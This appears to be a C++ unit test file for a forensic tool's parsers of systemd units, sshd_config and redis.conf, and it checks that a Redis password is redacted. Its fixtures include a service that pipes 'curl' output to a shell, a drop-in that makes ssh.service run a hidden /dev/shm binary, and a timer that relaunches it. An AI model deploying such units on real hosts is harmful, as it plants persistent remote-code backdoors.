// SPDX-License-Identifier: Apache-2.0
// systemd units, sshd_config and redis.conf parsers.
#include <gtest/gtest.h>

#include "unit/parsers/text_parse_util.hpp"

namespace deadbox::parsers {
namespace {

using text_testing::parse;

TEST(SystemdUnitParser, DirectivesOfInterestWithSectionsAndContinuations) {
  const auto r = parse("linux/systemd_unit",
                       "[Unit]\nDescription=Updater\n\n[Service]\nType=simple\n"
                       "ExecStart=/bin/sh -c \\\n  'curl -s http://x | sh'\nRestart=always\n"
                       "Nice=5\nbroken\n[Install]\nWantedBy=multi-user.target\n",
                       "/etc/systemd/system/updater.service");
  const auto& recs = r.of("linux/systemd_unit");
  ASSERT_EQ(recs.size(), 5u);
  EXPECT_EQ(recs[0].str("key"), "Description");
  EXPECT_EQ(recs[2].str("key"), "ExecStart");
  EXPECT_EQ(recs[2].str("section"), "Service");
  EXPECT_EQ(recs[2].str("value"), "/bin/sh -c 'curl -s http://x | sh'");
  EXPECT_EQ(recs[2].line, 6u);
  EXPECT_EQ(recs[2].str("unit"), "updater.service");
  EXPECT_EQ(recs[2].str("unit_type"), "service");
  EXPECT_EQ(recs[2].flag("dropin"), false);
  EXPECT_EQ(recs[4].str("key"), "WantedBy");
  EXPECT_EQ(r.diags("bad_unit_line"), 1u);
}

TEST(SystemdUnitParser, DropInNamesItsUnitAndTimerKeys) {
  const auto d = parse("linux/systemd_unit", "[Service]\nExecStart=\nExecStart=/dev/shm/.k\n",
                       "/etc/systemd/system/ssh.service.d/override.conf");
  ASSERT_EQ(d.of("linux/systemd_unit").size(), 2u);
  EXPECT_EQ(d.of("linux/systemd_unit")[1].str("unit"), "ssh.service");
  EXPECT_EQ(d.of("linux/systemd_unit")[1].flag("dropin"), true);
  const auto t = parse("linux/systemd_unit", "[Timer]\nOnCalendar=*:0/5\nUnit=k.service\n",
                       "/etc/systemd/system/k.timer");
  ASSERT_EQ(t.of("linux/systemd_unit").size(), 2u);
  EXPECT_EQ(t.of("linux/systemd_unit")[0].str("unit_type"), "timer");
  EXPECT_EQ(t.of("linux/systemd_unit")[1].str("value"), "k.service");
}

TEST(SshdConfigParser, KeysLowercasedAndMatchBlocksNoted) {
  const auto r = parse("unix/sshd_config",
                       "Include /etc/ssh/sshd_config.d/*.conf\n#PermitRootLogin prohibit-password\n"
                       "PermitRootLogin yes\nPasswordAuthentication=no\nMatch User backup\n"
                       "  PasswordAuthentication yes\nMatch all\nPort 2222\nNoValue\n",
                       "/etc/ssh/sshd_config");
  const auto& recs = r.of("unix/sshd_config");
  ASSERT_EQ(recs.size(), 7u);
  EXPECT_EQ(recs[1].str("key"), "permitrootlogin");
  EXPECT_EQ(recs[1].str("value"), "yes");
  EXPECT_EQ(recs[1].line, 3u);
  EXPECT_EQ(recs[2].str("value"), "no");
  EXPECT_EQ(recs[4].str("key"), "passwordauthentication");
  EXPECT_EQ(recs[4].str("match"), "User backup");
  EXPECT_EQ(recs[6].str("match"), std::nullopt);
  EXPECT_EQ(r.diags("bad_sshd_line"), 1u);
}

TEST(RedisConfParser, NeverStoresThePassword) {
  const auto r = parse("linux/redis_conf",
                       "bind 0.0.0.0\nprotected-mode no\nrequirepass S3cretPassw0rd\nport 6379\n"
                       "dir /var/lib/redis\nrename-command CONFIG \"\"\nmaxmemory 1gb\n"
                       "masterauth \"\"\n",
                       "/etc/redis/redis.conf");
  const auto& recs = r.of("linux/redis_conf");
  ASSERT_EQ(recs.size(), 7u);
  EXPECT_EQ(recs[0].str("value"), "0.0.0.0");
  EXPECT_EQ(recs[1].str("value"), "no");
  EXPECT_EQ(recs[2].str("key"), "requirepass");
  EXPECT_EQ(recs[2].str("value"), "[set]");
  for (const auto& rec : recs) {
    for (const auto& [k, v] : rec.fields) {
      if (const auto* s = std::get_if<std::string>(&v)) {
        EXPECT_EQ(s->find("S3cret"), std::string::npos) << k;
      }
    }
  }
  EXPECT_EQ(recs[5].str("value"), "CONFIG \"\"");
  EXPECT_EQ(recs[6].str("key"), "masterauth");
  EXPECT_EQ(recs[6].str("value"), "");
}

}  // namespace
}  // namespace deadbox::parsers
